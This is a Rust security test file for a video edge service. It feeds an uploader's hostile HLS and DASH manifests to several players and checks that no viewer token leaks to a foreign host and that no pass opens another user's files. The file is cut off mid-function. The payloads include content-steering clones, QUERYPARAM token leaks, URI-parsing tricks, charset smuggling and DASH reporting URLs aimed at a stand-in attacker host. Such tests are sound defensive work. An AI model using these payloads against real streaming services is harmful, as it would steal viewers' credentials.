//! Attacks on the running Worker by an uploader. The viewer's link opens the folder above the
//! uploader's. No other host may receive a credential, and no pass may open an object outside the
//! uploader's folder.

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::io::{Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::Instant;
use testkit::root;

use lectern::credential::binding::Binding as Seen;
use lectern::credential::claims::Purpose;
use lectern::credential::pass::{self, PassKind};
use lectern::object::key::ObjectKey;
use serde_json::{Value, json};

use super::edge::{Edge, built, now};
use super::media as lecture;
use testkit::attacks::{self, Attack, AttackSite, media, multivariant};

const HLS: &str = "application/vnd.apple.mpegurl";
const DASH: &str = "application/dash+xml";
/// Objects that only their owner and the viewer may read.
const OTHERS: [&str; 6] = [
    "/uploads/u2/essay.mp4",
    "/uploads/u2/essay2.mp4",
    "/uploads/u2/master.m3u8",
    "/uploads/u2/a.m3u8",
    "/uploads/u2/a.jpg",
    "/uploads/u2/v/1/720p/seg00000.m4s",
];

/// A foreign host: it gives every request a plausible answer and records it.
struct Foreign {
    origin: String,
    seen: Arc<Mutex<Vec<String>>>,
}

impl Foreign {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.2:0").expect("a free port");
        let origin = format!("http://{}", listener.local_addr().expect("an address"));
        let seen = Arc::new(Mutex::new(Vec::new()));
        let log = seen.clone();
        // The thread ends with the process.
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(stream) = stream else { continue };
                let log = log.clone();
                std::thread::spawn(move || answer(stream, &log));
            }
        });
        Self { origin, seen }
    }

    fn seen(&self) -> Vec<String> {
        self.seen.lock().expect("a list").clone()
    }
}

/// Reads one request, head and available body, and answers it.
fn answer(mut stream: TcpStream, log: &Mutex<Vec<String>>) {
    let mut request = Vec::new();
    let mut piece = [0; 4096];
    while !request.windows(4).any(|end| end == b"\r\n\r\n") && request.len() < 1 << 20 {
        match stream.read(&mut piece) {
            Ok(length @ 1..) => request.extend_from_slice(&piece[..length]),
            _ => break,
        }
    }
    let text = String::from_utf8_lossy(&request).into_owned();
    let target = text.split(' ').nth(1).unwrap_or_default();
    let path = target.split('?').next().unwrap_or_default();
    let (kind, body) = if path.ends_with(".m3u8") || path == "/" {
        (HLS, media(""))
    } else if path.ends_with(".json") {
        ("application/json", steering())
    } else {
        ("video/mp4", "x".repeat(16))
    };
    let length = body.len();
    let _ = write!(
        stream,
        "HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {length}\r\n\
         Access-Control-Allow-Origin: *\r\nAccess-Control-Allow-Headers: *\r\n\
         Connection: close\r\n\r\n{body}"
    );
    log.lock().expect("a list").push(text);
}

/// A steering manifest (RFC 8216bis §7.1) that clones the pathway `.` to a foreign host. It names
/// no port, because hls.js keeps that of the replaced URI.
fn steering() -> String {
    json!({
        "VERSION": 1,
        "TTL": 300,
        "PATHWAY-PRIORITY": ["evil", "."],
        "PATHWAY-CLONES": [
            { "BASE-ID": ".", "ID": "evil", "URI-REPLACEMENT": { "HOST": "127.0.0.2" } },
        ],
    })
    .to_string()
}

/// An uploader's files, of which the viewer opens the first.
struct Case {
    name: String,
    /// Name, content type, bytes.
    files: Vec<(String, String, Vec<u8>)>,
}

impl Case {
    fn of(attack: Attack) -> Self {
        Self {
            name: attack.name,
            files: vec![
                ("p.m3u8".to_owned(), HLS.to_owned(), attack.multivariant),
                ("s.m3u8".to_owned(), HLS.to_owned(), attack.media),
            ],
        }
    }

    fn new(name: &str, multivariant: &str, media: &str) -> Self {
        Self::of(Attack {
            name: name.to_owned(),
            multivariant: multivariant.into(),
            media: media.into(),
        })
    }

    fn with(mut self, name: &str, kind: &str, bytes: impl Into<Vec<u8>>) -> Self {
        self.files
            .push((name.to_owned(), kind.to_owned(), bytes.into()));
        self
    }

    /// Stores a file with another content type.
    fn typed(mut self, name: &str, kind: &str) -> Self {
        for file in &mut self.files {
            if file.0 == name {
                kind.clone_into(&mut file.1);
            }
        }
        self
    }
}

/// Attacks for players, one or a few of each kind. `tests/readings.rs` has all.
fn cases(site: &AttackSite<'_>) -> Vec<Case> {
    let AttackSite { evil, others, .. } = *site;
    let host = evil.trim_start_matches("http://");
    let plain = multivariant("");
    let is_wanted = |attack: &Attack| {
        let name = &attack.name;
        let essay = format!("{{$h}}{others}/essay.mp4");
        let variable = name.ends_with(&format!("{evil:?} in {essay}"))
            || name.ends_with(&format!("{evil:?} for an import"))
            || name == &format!("VALUE {evil:?} in a Variant Stream")
            || name == &format!("VALUE {evil:?} in %7B$h%7D{others}/essay.mp4")
            || name == &format!("by another variable \"{{$i}}\" in {essay}");
        let list = name.starts_with("#EXT-X-")
            && (name.contains("\"x,") || name.contains("z=\"") || name.contains("=\","))
            && name.contains(evil)
            && !name.contains("PART")
            && !name.contains("REPORT");
        let uri = ["the line", "MAP:", "MEDIA"]
            .iter()
            .any(|start| name.starts_with(start))
            && [
                format!("{:?}", format!("{others}/essay.mp4?\r{evil}/?")),
                format!("{:?}", format!("{others}/essay.mp4?\u{2028}{evil}/?")),
                format!("{:?}", format!("\\\\{host}{others}/essay.mp4")),
                format!("{:?}", format!("//{host}{others}/essay.mp4")),
                format!("{:?}", format!("/\t/{host}{others}/essay.mp4")),
                format!("{:?}", format!(".//{host}{others}/essay.mp4")),
                format!("{:?}", format!("{}@{host}{others}/essay.mp4", site.origin)),
            ]
            .iter()
            .any(|uri| name.ends_with(uri.as_str()));
        name.starts_with("QUERYPARAM of token")
            || name.starts_with("QUERYPARAM of p ")
            || name.starts_with("QUERYPARAM of h ")
            || name.starts_with("UTF-16LE around essay")
            || variable
            || list
            || uri
    };
    let mut cases: Vec<Case> = attacks::attacks(site)
        .into_iter()
        .filter(is_wanted)
        .map(Case::of)
        .collect();

    // Content Steering.
    let steered = |server: &str| {
        multivariant(&format!(
            "#EXT-X-CONTENT-STEERING:SERVER-URI=\"{server}\",PATHWAY-ID=\".\"\n\
             #EXT-X-STREAM-INF:BANDWIDTH=900,CODECS=\"avc1.64001e\",PATHWAY-ID=\".\"\n\
             {others}/master.m3u8"
        ))
    };
    let data = format!("data:application/json,{}", steering().replace('"', "%22"));
    cases.extend([
        Case::new(
            "steering by a foreign server",
            &steered(&format!("{evil}/s.json")),
            &media(""),
        ),
        Case::new(
            "steering by an own manifest",
            &steered("steer.json"),
            &media(""),
        )
        .with("steer.json", "application/json", steering()),
        Case::new("steering by data", &steered(&data), &media("")),
        Case::new(
            "steering by a variable",
            &steered("{$s}").replacen(
                '\n',
                &format!("\n#EXT-X-DEFINE:NAME=\"s\",VALUE=\"{evil}/s.json\"\n"),
                1,
            ),
            &media(""),
        ),
    ]);

    // Interstitials.
    let range = |attribute: &str| {
        media(&format!(
            "#EXT-X-DATERANGE:ID=\"i\",CLASS=\"com.apple.hls.interstitial\",CUE=\"PRE\",\
             START-DATE=\"2026-01-01T00:00:00Z\",DURATION=4,{attribute}"
        ))
    };
    let list = json!({ "ASSETS": [
        { "URI": format!("{others}/master.m3u8"), "DURATION": 4 },
        { "URI": format!("{evil}/x.m3u8"), "DURATION": 4 },
        { "URI": "s.m3u8", "DURATION": 4 },
    ]});
    cases.extend([
        Case::new(
            "a foreign asset",
            &plain,
            &range(&format!("X-ASSET-URI=\"{evil}/x.m3u8\"")),
        ),
        Case::new(
            "another user's asset",
            &plain,
            &range(&format!("X-ASSET-URI=\"{others}/master.m3u8\"")),
        ),
        Case::new(
            "an own list of others' assets",
            &plain,
            &range("X-ASSET-LIST=\"a.json\""),
        )
        .with("a.json", "application/json", list.to_string()),
        Case::new(
            "a foreign list of assets",
            &plain,
            &range(&format!("X-ASSET-LIST=\"{evil}/a.json\"")),
        ),
    ]);

    // Session data, keys, hints and reports.
    for (name, lines) in [
        (
            "chapters",
            format!(
                "#EXT-X-SESSION-DATA:DATA-ID=\"com.apple.hls.chapters\",URI=\"{others}/a.json\""
            ),
        ),
        (
            "foreign chapters",
            format!("#EXT-X-SESSION-DATA:DATA-ID=\"com.apple.hls.chapters\",URI=\"{evil}/a.json\""),
        ),
        (
            "a session key",
            format!("#EXT-X-SESSION-KEY:METHOD=AES-128,URI=\"{others}/essay.mp4\""),
        ),
        (
            "a foreign session key",
            format!("#EXT-X-SESSION-KEY:METHOD=AES-128,URI=\"{evil}/key\""),
        ),
        (
            "another user's audio",
            format!(
                "#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID=\"a\",NAME=\"n\",DEFAULT=YES,AUTOSELECT=YES,URI=\"{others}/a.m3u8\"\n#EXT-X-STREAM-INF:BANDWIDTH=900,CODECS=\"avc1.64001e,mp4a.40.2\",AUDIO=\"a\"\ns.m3u8"
            ),
        ),
    ] {
        cases.push(Case::new(name, &multivariant(&lines), &media("")));
    }
    for (name, line) in [
        (
            "a hint",
            format!("#EXT-X-PRELOAD-HINT:TYPE=PART,URI=\"{others}/essay.mp4\""),
        ),
        (
            "a hint of an initialization section",
            format!("#EXT-X-PRELOAD-HINT:TYPE=MAP,URI=\"{others}/essay.mp4\""),
        ),
        (
            "a report",
            format!("#EXT-X-RENDITION-REPORT:URI=\"{others}/a.m3u8\",LAST-MSN=1"),
        ),
        (
            "a part",
            format!(
                "#EXT-X-PART-INF:PART-TARGET=1\n#EXT-X-PART:DURATION=1,URI=\"{others}/essay.mp4\""
            ),
        ),
        (
            "a segment",
            format!("#EXTINF:4,\n{others}/v/1/720p/seg00000.m4s"),
        ),
        (
            "an initialization section",
            format!("#EXT-X-MAP:URI=\"{others}/essay.mp4\""),
        ),
        (
            "a key",
            format!("#EXT-X-KEY:METHOD=AES-128,URI=\"{others}/essay.mp4\""),
        ),
    ] {
        cases.push(Case::new(name, &plain, &media(&line)));
    }

    // Content types that players decode by, and names that contradict the bytes.
    let wide = |text: &str| {
        text.encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect::<Vec<u8>>()
    };
    let head = format!("#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXTINF:4,\n{evil}/?");
    let mut in_utf16 = wide(&head);
    in_utf16.extend_from_slice(format!("\n\n{others}/essay2.mp4\n").as_bytes());
    in_utf16.extend(wide("\n#EXT-X-ENDLIST\n"));
    let mut case = Case::new("UTF-16 by the content type", &plain, "")
        .typed("s.m3u8", &format!("{HLS}; charset=utf-16le"));
    case.files[1].2 = in_utf16;
    cases.push(case);
    cases.push(
        Case::new(
            "ISO-2022-JP by the content type",
            &multivariant(&format!(
                "#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID=\"a\",NAME=\"n\",DEFAULT=YES,\
                 URI=\"{evil}/?a=\u{1b}$B\",Z=\u{1b}(B,URI=\"{others}/master.m3u8\"\n\
                 #EXT-X-STREAM-INF:BANDWIDTH=900,CODECS=\"avc1.64001e,mp4a.40.2\",AUDIO=\"a\"\ns.m3u8"
            )),
            &media(""),
        )
        .typed("p.m3u8", &format!("{HLS}; charset=iso-2022-jp")),
    );
    cases.extend(attacks_from_folder(site));
    cases
}

/// Attacks from a folder of files, if it exists.
fn attacks_from_folder(site: &AttackSite<'_>) -> Vec<Case> {
    let folder = std::env::var_os("LECTERN_ATTACKS")
        .map_or_else(|| root().join("../shared/attacks"), Into::into);
    let Ok(entries) = fs::read_dir(&folder) else {
        // `println!` is visible only if a test fails.
        let _ = writeln!(
            std::io::stderr(),
            "SKIPPED: {} is not there (set LECTERN_ATTACKS)",
            folder.display()
        );
        return Vec::new();
    };
    let host = site.evil.trim_start_matches("http://");
    let text = |path: &Path| {
        let text = fs::read_to_string(path).ok()?;
        Some(
            text.replace("https://127.0.0.1:8898", site.evil)
                .replace("127.0.0.2:28811", host),
        )
    };
    let mut names: Vec<_> = entries
        .map(|entry| entry.expect("an entry").path())
        .collect();
    names.sort();
    names
        .iter()
        .filter(|path| path.to_string_lossy().ends_with("-master.m3u8"))
        .map(|path| {
            let other = path.to_string_lossy().replace("-master", "-media");
            let name = path.file_name().expect("a name").to_string_lossy();
            let multivariant = text(path).expect("a playlist");
            let media = text(Path::new(&other)).unwrap_or_else(|| media(""));
            Case::new(&name, &multivariant, &media)
        })
        .collect()
}

/// Requests to the edge and to other hosts, by player.
type RequestCounts = BTreeMap<String, (usize, usize)>;

/// An edge with another user's objects, a foreign host, and the attacks in `/uploads/u1/`.
struct Stage {
    edge: Edge,
    foreign: Foreign,
    /// Name and path of each opened file.
    opened: Vec<(String, String)>,
    /// Everything that the uploader stored, as text.
    stored: String,
}

impl Stage {
    fn new(cases: impl Fn(&AttackSite<'_>) -> Vec<Case>) -> Self {
        let edge = Edge::start();
        let foreign = Foreign::start();
        let admin = edge.token("/uploads/u2/", Purpose::Admin);
        for path in OTHERS {
            let body = if path.ends_with(".m3u8") {
                media("")
            } else {
                "secret".to_owned()
            };
            let url = format!("{path}?token={admin}");
            let put = edge.send("PUT", &url, &[], body.as_bytes());
            assert!(matches!(put.status, 200 | 201), "{path}: {}", put.verdict());
        }
        let site = AttackSite {
            origin: &edge.origin,
            evil: &foreign.origin,
            own: "/uploads/u1",
            others: "/uploads/u2",
        };
        let upload = edge.token("/uploads/u1/", Purpose::Upload);
        let mut opened = Vec::new();
        let mut stored = String::new();
        let segment = fs::read(segment()).expect("a segment");
        // Selects attacks by name: `LECTERN_HOSTILE=steering`.
        let wanted = std::env::var("LECTERN_HOSTILE").unwrap_or_default();
        let cases = cases(&site)
            .into_iter()
            .filter(|case| case.name.contains(&wanted));
        for (number, case) in cases.enumerate() {
            let folder = format!("/uploads/u1/{number}");
            let entry = case.files[0].0.clone();
            let own = ("x.m4s".to_owned(), "video/mp4".to_owned(), segment.clone());
            for (name, kind, bytes) in case.files.into_iter().chain([own]) {
                let url = format!("{folder}/{name}?token={upload}");
                let put = edge.send("PUT", &url, &[("content-type", &kind)], &bytes);
                assert!(
                    matches!(put.status, 200 | 201),
                    "{} {name}: {}",
                    case.name,
                    put.verdict()
                );
                if name != "x.m4s" {
                    stored += &String::from_utf8_lossy(&bytes);
                }
            }
            opened.push((case.name, format!("{folder}/{entry}")));
        }
        Self {
            edge,
            foreign,
            opened,
            stored,
        }
    }

    /// A viewer's link for the folder above, with a claim that differs per case.
    fn link(&self, name: &str, path: &str, claims: &Value) -> String {
        let mut all = json!({ "path": "/uploads/", "sub": name });
        for (name, value) in claims.as_object().into_iter().flatten() {
            all[name] = value.clone();
        }
        format!(
            "{}{path}?token={}",
            self.edge.origin,
            self.edge.token_of(all)
        )
    }

    /// Credentials in a text: links and passes that the uploader did not write himself.
    fn credentials<'a>(&self, text: &'a str) -> BTreeSet<&'a str> {
        let of_credential =
            |character: char| character.is_ascii_alphanumeric() || "-_.".contains(character);
        text.split(|character| !of_credential(character))
            .filter(|run| !self.stored.contains(run))
            .filter(|run| {
                run.starts_with("eyJ") || pass::decode(run).is_ok_and(|pass| pass.expires > now())
            })
            .collect()
    }

    /// Returns whether a request to a foreign host contains a credential, in any encoding.
    fn gives_away(&self, sent: &str) -> bool {
        let decoded: Vec<u8> = percent_encoding::percent_decode_str(sent).collect();
        let text = String::from_utf8_lossy(&decoded).into_owned();
        let pairs = |order: fn(u16) -> [u8; 2]| {
            let bytes: Vec<u8> = text.encode_utf16().flat_map(order).collect();
            String::from_utf8_lossy(&bytes).into_owned()
        };
        [
            sent.to_owned(),
            text.clone(),
            pairs(u16::to_le_bytes),
            pairs(u16::to_be_bytes),
        ]
        .iter()
        .any(|text| !self.credentials(text).is_empty())
    }

    /// Opens links in players of a foreign page, each by a name. Returns the requests to other hosts by that name, and how
    /// many requests each player sent to the edge and to others.
    fn play(&self, plays: &[(String, Value)]) -> (Vec<(String, String)>, RequestCounts) {
        let mut node = Command::new(built("node_modules/node/bin/node"))
            .arg(root().join("tests/browser/hostile.mjs"))
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .expect("node starts");
        let question: Vec<&Value> = plays.iter().map(|(_, play)| play).collect();
        let question = serde_json::to_vec(&question).expect("JSON");
        node.stdin
            .take()
            .expect("a pipe")
            .write_all(&question)
            .expect("written");
        let output = node.wait_with_output().expect("an answer");
        assert!(output.status.success(), "{}", self.edge.log());
        let played: Vec<Value> = serde_json::from_slice(&output.stdout).expect("JSON");
        assert_eq!(played.len(), plays.len());

        let mut sent = Vec::new();
        let mut asked = RequestCounts::new();
        for ((name, _), play) in plays.iter().zip(&played) {
            let requests = play["requests"].as_array().expect("a list");
            let url = |request: &Value| request["url"].as_str().unwrap_or_default().to_owned();
            let (own, foreign): (Vec<_>, Vec<_>) = requests
                .iter()
                .partition(|request| url(request).starts_with(&format!("{}/", self.edge.origin)));
            // Each player opened its playlist, or the attack was not tried.
            let opened = own
                .iter()
                .any(|request| url(request).contains("/uploads/u1/"));
            assert!(
                opened,
                "{name} opened nothing: {play:#}\n{}",
                self.edge.log()
            );
            let player = play["player"].as_str().unwrap_or_default();
            let counts = asked.entry(player.to_owned()).or_default();
            counts.0 += own.len();
            counts.1 += foreign.len();
            sent.extend(
                foreign
                    .iter()
                    .map(|request| (name.clone(), request.to_string())),
            );
        }
        (sent, asked)
    }

    /// Checks all requests to another host.
    fn judge(&self, sent: impl IntoIterator<Item = (String, String)>) -> Vec<String> {
        sent.into_iter()
            .filter(|(_, sent)| self.gives_away(sent))
            .map(|(who, sent)| match serde_json::from_str::<Value>(&sent) {
                Ok(request) => format!("{who}: {}", request["url"]),
                Err(_) => format!("{who}: {}", sent.lines().next().unwrap_or_default()),
            })
            .collect()
    }
}

/// A segment that every player accepts.
fn segment() -> std::path::PathBuf {
    let package = lecture::package();
    let revision = fs::read_dir(package.join("v"))
        .expect("a revision")
        .next()
        .expect("one")
        .expect("an entry")
        .path();
    revision.join("480p/seg00000.m4s")
}

#[test]
fn no_player_shows_another_host_what_the_edge_gave_its_viewer() {
    let stage = Stage::new(cases);
    let mut plays = Vec::new();
    for (name, path) in &stage.opened {
        // The page is hls.js with its own policy.
        let is_for_page = ["QUERYPARAM of token", "UTF-16", "leak", "steering"]
            .iter()
            .any(|start| name.starts_with(start));
        for player in ["hlsjs", "shaka", "native", "page"] {
            if player == "page" && !is_for_page {
                continue;
            }
            let link = stage.link(&format!("{player}: {name}"), path, &json!({}));
            plays.push((
                format!("{player}: {name}"),
                json!({ "player": player, "link": link }),
            ));
        }
    }
    let began = Instant::now();
    let (sent, asked) = stage.play(&plays);
    let foreign = stage.foreign.seen();
    let _ = writeln!(
        std::io::stderr(),
        "{} attacks in four players in {:.0} s; requests to the edge and to others: {asked:?}; \
         the foreign host saw {}",
        stage.opened.len(),
        began.elapsed().as_secs_f64(),
        foreign.len()
    );
    let mut failed = stage.judge(sent);
    failed.extend(
        stage.judge(
            foreign
                .into_iter()
                .map(|sent| ("the foreign host saw".to_owned(), sent)),
        ),
    );
    assert!(
        failed.is_empty(),
        "{} requests:\n{}",
        failed.len(),
        failed.join("\n")
    );
    // The page's policy blocks every foreign request. The other players send them.
    for player in ["hlsjs", "shaka"] {
        assert!(asked[player].1 >= 10, "{asked:?}");
    }
}

/// Manifests under names of other objects. Each sends what stands in its own URL to another host, in the way that its format
/// has for that.
fn misnamed(site: &AttackSite<'_>) -> Vec<Case> {
    let evil = site.evil;
    let hls = |variables: &str, query: &str| {
        format!(
            "#EXTM3U\n{variables}#EXT-X-CONTENT-STEERING:SERVER-URI=\"steer.json\",PATHWAY-ID=\".\"\n\
             #EXT-X-STREAM-INF:BANDWIDTH=900,CODECS=\"avc1.64001e\"\n{evil}/x.m3u8?{query}\n\
             #EXT-X-STREAM-INF:BANDWIDTH=800,CODECS=\"avc1.64001e\",PATHWAY-ID=\".\"\ns.m3u8\n"
        )
    };
    let token = hls("#EXT-X-DEFINE:QUERYPARAM=\"token\"\n", "t={$token}");
    let pass = hls("#EXT-X-DEFINE:QUERYPARAM=\"p\"\n", "t={$p}");
    let plain = hls("", "");
    let property = "<SupplementalProperty schemeIdUri=\"urn:mpeg:dash:urlparam:2014\"><UrlQueryInfo \
        xmlns=\"urn:mpeg:dash:schema:urlparam:2014\" queryTemplate=\"$querypart$\" useMPDUrlQuery=\"true\"/>\
        </SupplementalProperty>";
    let dash = format!(
        "<MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\" \
         mediaPresentationDuration=\"PT8S\" minBufferTime=\"PT2S\" \
         profiles=\"urn:mpeg:dash:profile:isoff-live:2011\">{property}<Period><BaseURL>{evil}/</BaseURL>\
         <AdaptationSet mimeType=\"video/mp4\" contentType=\"video\">{property}\
         <SegmentTemplate media=\"s$Number$.m4s\" initialization=\"i.mp4\" duration=\"4\" startNumber=\"1\"/>\
         <Representation id=\"1\" bandwidth=\"1000\" codecs=\"avc1.64001e\" width=\"640\" height=\"360\"/>\
         </AdaptationSet></Period></MPD>"
    );
    let mut cases = Vec::new();
    for (file, kind) in [
        ("x.mp4", "video/mp4"),
        ("x.txt", "text/plain; charset=utf-8"),
        ("x", "application/octet-stream"),
        ("x.mp4", HLS),
        ("x", DASH),
    ] {
        for (what, text) in [
            ("the link", &token),
            ("the pass", &pass),
            ("steering", &plain),
            ("DASH", &dash),
        ] {
            cases.push(
                Case {
                    name: format!("{what} by {file} as {kind}"),
                    files: vec![(file.to_owned(), kind.to_owned(), text.clone().into_bytes())],
                }
                .with("s.m3u8", HLS, media(""))
                .with("steer.json", "application/json", steering()),
            );
        }
    }
    let reports = dash.replace(
        property,
        &format!(
            "<Metrics metrics=\"DVBErrors\"><Reporting schemeIdUri=\"urn:dvb:dash:reporting:2014\" value=\"1\" \
             xmlns:dvb=\"urn:dvb:dash:dash-extensions:2014-1\" dvb:reportingUrl=\"{evil}/\" \
             dvb:probability=\"1000\"/></Metrics>"
        ),
    );
    // Names that the edge reads as one format, and a player as the other.
    for (name, file, kind, text) in [
        (
            "DASH in a playlist",
            "p.m3u8",
            HLS,
            format!("#EXTM3U\n{dash}"),
        ),
        (
            "DASH in a comment",
            "p.m3u8",
            HLS,
            format!("#EXTM3U\n#{dash}"),
        ),
        (
            "DASH in a note",
            "storyboard.vtt",
            "text/vtt",
            format!("WEBVTT\n\nNOTE\n{dash}"),
        ),
        ("DASH by its type", "x", HLS, format!("#EXTM3U\n{dash}")),
        (
            "DASH with reports",
            "x.mpd",
            DASH,
            format!("#EXTM3U\n{reports}"),
        ),
        (
            "steering behind a mark",
            "p.m3u8",
            HLS,
            format!("\u{feff}{plain}"),
        ),
        (
            "steering in a storyboard",
            "storyboard.vtt",
            "text/vtt",
            plain.clone(),
        ),
    ] {
        cases.push(
            Case {
                name: name.to_owned(),
                files: vec![(file.to_owned(), kind.to_owned(), text.into_bytes())],
            }
            .with("s.m3u8", HLS, media(""))
            .with("steer.json", "application/json", steering()),
        );
    }
    cases
}

#[test]
fn no_player_shows_another_host_the_link_to_a_manifest_under_another_name() {
    let stage = Stage::new(misnamed);
    let mut plays = Vec::new();
    for (name, path) in &stage.opened {
        for (player, shape) in [
            ("hlsjs", ""),
            ("hlsjs", "&as=directory"),
            ("shaka", ""),
            ("dashjs", ""),
            ("dashjs", "&as=directory"),
            ("native", ""),
        ] {
            let is_dash = name.starts_with("DASH");
            // Each player is given the manifests that it reads.
            let reads_it = match player {
                "dashjs" => is_dash,
                "shaka" => true,
                _ => !is_dash,
            };
            if !reads_it {
                continue;
            }
            let name = format!("{player}{shape}: {name}");
            let link = stage.link(&name, path, &json!({})) + shape;
            // Shaka reads by the name, or by the type that its page says.
            let kind = if is_dash { DASH } else { HLS };
            plays.push((
                name,
                json!({ "player": player, "link": link, "type": kind }),
            ));
        }
    }
    let (sent, asked) = stage.play(&plays);
    let _ = writeln!(
        std::io::stderr(),
        "{} links to manifests under other names; requests to the edge and to others: {asked:?}",
        plays.len()
    );
    // A pass of the object itself opens for another host what its uploader wrote.
    let opens_own_alone = |credential: &str| {
        pass::decode(credential).is_ok_and(|pass| pass.kind == PassKind::Object)
            && stage.opened.iter().any(|(_, path)| {
                let url = format!("{path}?p={credential}");
                stage.edge.send("GET", &url, &[], b"").status == 200
            })
    };
    let failed: Vec<String> = sent
        .iter()
        .filter(|(_, sent)| {
            let mut credentials = stage.credentials(sent);
            credentials.retain(|credential| !opens_own_alone(credential));
            !credentials.is_empty()
        })
        .map(|(name, sent)| format!("{name}: {sent}"))
        .collect();
    assert!(
        failed.is_empty(),
        "{} requests:\n{}",
        failed.len(),
        failed.join("\n")
    );
    for player in ["hlsjs", "dashjs"] {
        assert!(asked[player].1 >= 5, "{asked:?}");
    }
}

#[test]
fn neither_ffmpeg_nor_vlc_shows_another_host_what_the_edge_gave_its_viewer() {
    let stage = Stage::new(|site| {
        let wanted = |name: &str| {
            [
                "QUERYPARAM of token in a",
                "leak",
                "steering by an own",
                "UTF-16LE around essay2",
                "the line",
                "a segment",
            ]
            .iter()
            .any(|start| name.starts_with(start))
        };
        let mut cases = cases(site);
        cases.retain(|case| wanted(&case.name));
        cases
    });
    let home = stage.edge.folder().join("home");
    fs::create_dir(&home).expect("a folder");
    for (name, path) in &stage.opened {
        let link = stage.link(&format!("ffmpeg: {name}"), path, &json!({}));
        // The player ends with an error: the foreign host has no media.
        let _ = Command::new("timeout")
            .args(["20", "ffmpeg", "-v", "quiet", "-nostdin", "-i", &link])
            .args(["-map", "0", "-f", "null", "-"])
            .output()
            .expect("ffmpeg starts");
        let link = stage.link(&format!("vlc: {name}"), path, &json!({}));
        let _ = Command::new("timeout")
            .args(["20", "runuser", "-u", "nobody", "--", "cvlc", "--quiet"])
            .args([
                "--vout",
                "dummy",
                "--aout",
                "dummy",
                "--run-time",
                "1",
                &link,
                "vlc://quit",
            ])
            .env("HOME", &home)
            .output();
    }
    let foreign = stage.foreign.seen();
    let _ = writeln!(
        std::io::stderr(),
        "{} attacks in ffmpeg and VLC; the foreign host saw {}",
        stage.opened.len(),
        foreign.len()
    );
    let failed = stage.judge(foreign.into_iter().map(|sent| (String::new(), sent)));
    assert!(
        failed.is_empty(),
        "{} requests:\n{}",
        failed.len(),
        failed.join("\n")
    );
}

#[test]
fn no_pass_in_an_uploaders_playlist_opens_objects_outside_his_folder() {
    let stage = Stage::new(|site| {
        let mut cases = cases(site);
        cases.extend(disguised(site));
        cases
    });
    let edge = &stage.edge;
    let mut passes: BTreeMap<String, (String, String)> = BTreeMap::new();
    let mut asked = 0;
    let mut failed = Vec::new();
    for claims in [
        json!({}),
        json!({ "max_height": 480 }),
        json!({ "langs": ["en"] }),
        json!({ "preview": [0, 60] }),
    ] {
        for (name, path) in &stage.opened {
            let link = stage.link(name, path, &claims);
            let mut queue = vec![link[edge.origin.len()..].to_owned()];
            let mut opened = BTreeSet::new();
            while let Some(url) = queue.pop() {
                let path = url.split('?').next().unwrap_or_default().to_owned();
                if !opened.insert(path.clone()) {
                    continue;
                }
                // From one network, so many refusals would exceed the limit.
                let address = format!("198.{}.{}.1", asked / 200 % 200, asked % 200);
                asked += 1;
                let reply = edge.send("GET", &url, &[("cf-connecting-ip", &address)], &[]);
                assert!(
                    matches!(reply.status, 200 | 307 | 400 | 403 | 404 | 413 | 422),
                    "{name} {url}: {}",
                    reply.verdict()
                );
                let location = reply.header("location").unwrap_or_default().to_owned();
                let kind = reply
                    .header("content-type")
                    .unwrap_or_default()
                    .to_ascii_lowercase();
                if kind.contains("mpegurl") && kind.contains("charset") && !kind.contains("utf-8") {
                    failed.push(format!("{name}: {path} is answered as {kind}"));
                }
                let is_text = ["mpegurl", "json", "vtt", "xml"]
                    .iter()
                    .any(|text| kind.contains(text));
                let body: &[u8] = if is_text { &reply.body } else { &[] };
                let text = String::from_utf8_lossy(body).into_owned() + "\n" + &location;
                for pass in stage.credentials(&text) {
                    passes.insert(pass.to_owned(), (format!("{name} {claims}"), path.clone()));
                }
                // Its relative URIs, as a player resolves them.
                let base = url::Url::parse(&format!("{}{path}", edge.origin)).expect("a URL");
                for uri in text.split(['\n', '"']).filter(|uri| uri.contains("p=")) {
                    if let Ok(found) = base.join(uri)
                        && found.as_str().starts_with(&format!("{}/", edge.origin))
                    {
                        queue.push(found.as_str()[edge.origin.len()..].to_owned());
                    }
                }
            }
        }
    }
    for (pass, (name, path)) in &passes {
        for other in OTHERS {
            let key = ObjectKey::from_url_path(other).expect("a key");
            if pass::verify(pass, &key, Seen::default(), &edge.keys, now()).is_ok() {
                let reply = edge.get(&format!("{other}?p={pass}"));
                failed.push(format!(
                    "{name}: what {path} was answered opens {other}: {}",
                    reply.verdict()
                ));
            }
        }
    }
    let _ = writeln!(
        std::io::stderr(),
        "{} attacks with four kinds of links: {} passes",
        stage.opened.len(),
        passes.len()
    );
    assert!(
        failed.is_empty(),
        "{} passes:\n{}",
        failed.len(),
        failed.join("\n")
    );
    assert!(passes.len() > 50, "{}", passes.len());
}

/// Objects whose names contradict their bytes or content types.
fn disguised(site: &AttackSite<'_>) -> Vec<Case> {
    let others = site.others;
    let board = |lines: &str| format!("WEBVTT\n\n00:00.000 --> 00:02.000\n{lines}\n");
    let list = format!("#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXTINF:4,\n{others}/essay.mp4\n");
    let one = |name: &str, file: &str, kind: &str, bytes: String| Case {
        name: name.to_owned(),
        files: vec![(file.to_owned(), kind.to_owned(), bytes.into_bytes())],
    };
    let pictures = format!(
        "{others}/a.jpg\n../../u2/a.jpg\n{others}/essay.mp4\n{others}/essay.mp4?.jpg\n{others}/a.m3u8"
    );
    let mut cases = vec![
        one(
            "a storyboard of others' pictures",
            "storyboard.vtt",
            "text/vtt",
            board(&pictures),
        ),
        one(
            "thumbnails of others' pictures",
            "thumbnails.vtt",
            "text/vtt",
            board(&pictures),
        ),
        one(
            "captions of others' pictures",
            "en.vtt",
            "text/vtt",
            board(&pictures),
        ),
        one("a playlist called captions", "en.vtt", HLS, list.clone()),
        one(
